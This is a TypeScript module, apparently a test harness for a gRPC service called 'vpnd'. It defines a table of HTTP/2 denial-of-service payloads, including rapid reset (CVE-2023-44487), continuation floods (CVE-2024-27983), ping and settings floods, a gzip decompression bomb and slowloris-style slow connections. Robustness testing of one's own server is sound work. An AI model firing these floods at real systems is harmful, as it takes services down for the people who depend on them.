import { gzipSync } from 'node:zlib';
import { END_HEADERS, END_STREAM, field, frame, headers, headersAgain, message, u32 } from './frames.js';

const CONTROL = '/vpnd.v1.Control/PersistentControlStream';
const REFLECTION = '/grpc.reflection.v1.ServerReflection/ServerReflectionInfo';
/** Bytes written at a time. */
const CHUNK = 16 * 1024;

/** What one connection sends once TLS is up and the preface is written. */
export interface Flood {
  /** Once. */
  readonly first?: Buffer;
  /** Again and again, as fast as it is taken; the count of times before is given. Without it nothing more is sent. */
  readonly again?: (round: number) => Buffer;
  /** Milliseconds between two of them. */
  readonly pause?: number;
  /** Whether the answers are never read. */
  readonly unread?: boolean;
  /** The connection is broken after so many rounds. */
  readonly rounds?: number;
  /** Before HTTP/2: nothing after the connection, after TLS, or bytes that are none of it. */
  readonly instead?: 'tcp' | 'tls' | 'handshake';
}

/** So many of them in a row, each on a stream of its own. */
function each(count: number, make: (stream: number) => Buffer): (round: number) => Buffer {
  return (round) => Buffer.concat(Array.from({ length: count }, (_, i) => make(streamId(1 + round * count + i))));
}

/** Client streams are odd, and the first is taken by `first`. */
const streamId = (n: number): number => (2 * n + 1) & 0x7fffffff;

const filled = (one: Buffer): (() => Buffer) => {
  const chunk = Buffer.concat(Array.from({ length: Math.ceil(CHUNK / one.length) }, () => one));
  return () => chunk;
};

const open = (path = CONTROL, more = {}): Buffer => frame('headers', END_HEADERS, 1, headers(path, more));
const fragment = Buffer.concat(Array.from({ length: 64 }, (_, i) => field(`x-${i}`, 'y'.repeat(50))));
const question = Buffer.concat([Buffer.from([0x22, 15]), Buffer.from('vpnd.v1.Control')]);

export const FLOODS = {
  /** CVE-2023-44487. */
  'rapid reset': {
    first: open(),
    again: each(400, (id) =>
      Buffer.concat([frame('headers', END_HEADERS, id, headersAgain()), frame('reset', 0, id, u32(8))]),
    ),
  },
  'reset after a message': {
    first: open(),
    again: each(200, (id) =>
      Buffer.concat([
        frame('headers', END_HEADERS, id, headersAgain()),
        message(id, Buffer.from([0x1a, 0x7f])),
        frame('reset', 0, id, u32(8)),
      ]),
    ),
  },
  'streams for no method': {
    first: frame('headers', END_HEADERS | END_STREAM, 1, headers('/no.Such/Method')),
    again: each(200, (id) => frame('headers', END_HEADERS | END_STREAM, id, headersAgain())),
  },
  /** Answered after they are gone. */
  'streams for no method, reset': {
    first: frame('headers', END_HEADERS, 1, headers('/no.Such/Method')),
    again: each(400, (id) =>
      Buffer.concat([frame('headers', END_HEADERS, id, headersAgain()), frame('reset', 0, id, u32(8))]),
    ),
  },
  'streams that stay open': {
    first: open(),
    again: each(16, (id) => frame('headers', END_HEADERS, id, headersAgain())),
    pause: 20,
  },
  /** CVE-2024-27983, and headers without an end. */
  continuation: {
    first: frame('headers', 0, 1, headers(CONTROL)),
    again: filled(frame('continuation', 0, 1, fragment)),
  },
  'continuation, empty': {
    first: frame('headers', 0, 1, headers(CONTROL)),
    again: filled(frame('continuation', 0, 1)),
  },
  'headers that break off': {
    first: frame('headers', 0, 1, headers(CONTROL)),
    again: () => frame('continuation', 0, 1, fragment),
    rounds: 3,
  },
  'swollen headers': {
    first: open(),
    again: each(2, (id) =>
      frame('headers', END_HEADERS, id, Buffer.concat([headersAgain(), ...Array.from({ length: 4 }, () => fragment)])),
    ),
  },
  ping: { again: filled(frame('ping', 0, 0, Buffer.alloc(8, 7))) },
  'ping, unread': { again: filled(frame('ping', 0, 0, Buffer.alloc(8, 7))), unread: true },
  settings: { again: filled(frame('settings', 0, 0)) },
  'settings, unread': {
    again: filled(frame('settings', 0, 0, Buffer.concat([Buffer.from([0, 1]), u32(0)]))),
    unread: true,
  },
  'window updates': { first: open(), again: filled(frame('window', 0, 0, u32(1))) },
  'empty data': { first: open(), again: filled(frame('data', 0, 1)) },
  priority: {
    again: each(1_000, (id) => frame('priority', 0, id, Buffer.concat([u32(0), Buffer.from([1])]))),
  },
  'unknown frames': { again: filled(frame('unknown', 0, 0)) },
  'decompression bomb': {
    first: open(CONTROL, { 'grpc-encoding': 'gzip' }),
    again: (round) => (round === 0 ? bomb(1) : frame('ping', 0, 0, Buffer.alloc(8))),
    pause: 50,
  },
  garbage: { again: filled(Buffer.from('GET / HTTP/1.1\r\nHost: vpnd\r\n\r\n')) },
  'malformed messages': {
    first: open(),
    again: (round) =>
      round === 0
        ? message(1, Buffer.alloc(1_000, 7))
        : Buffer.concat([
            frame('headers', END_HEADERS, streamId(round), headersAgain()),
            message(streamId(round), Buffer.alloc(1_000, 7)),
          ]),
  },
  'reflection, unread': {
    first: open(REFLECTION),
    again: filled(message(1, question)),
    unread: true,
  },
  /** Slow ones: each keeps its place for as long as it is let. */
  'slow handshake': { instead: 'tcp' },
  'slow preface': { instead: 'tls' },
  'slow headers': {
    first: frame('headers', 0, 1, headers(CONTROL)),
    again: () => frame('continuation', 0, 1, Buffer.from([0x83])),
    pause: 500,
  },
  'slow message': {
    first: Buffer.concat([open(), frame('data', 0, 1, Buffer.from([0, 0, 0, 100, 0]))]),
    again: () => frame('data', 0, 1, Buffer.from([7])),
    pause: 200,
  },
  /** TLS, again and again. */
  handshakes: { instead: 'handshake' },
} as const satisfies Record<string, Flood>;

export type FloodName = keyof typeof FLOODS;

/** 64 MB of nothing in 64 KB, in frames of what the server lets in. */
function bomb(stream: number): Buffer {
  const packed = gzipSync(Buffer.alloc(60_000_000));
  const whole = Buffer.concat([Buffer.from([1]), u32(packed.length), packed]);
  const frames: Buffer[] = [];
  for (let at = 0; at < whole.length; at += CHUNK)
    frames.push(frame('data', 0, stream, whole.subarray(at, at + CHUNK)));
  return Buffer.concat(frames);
}
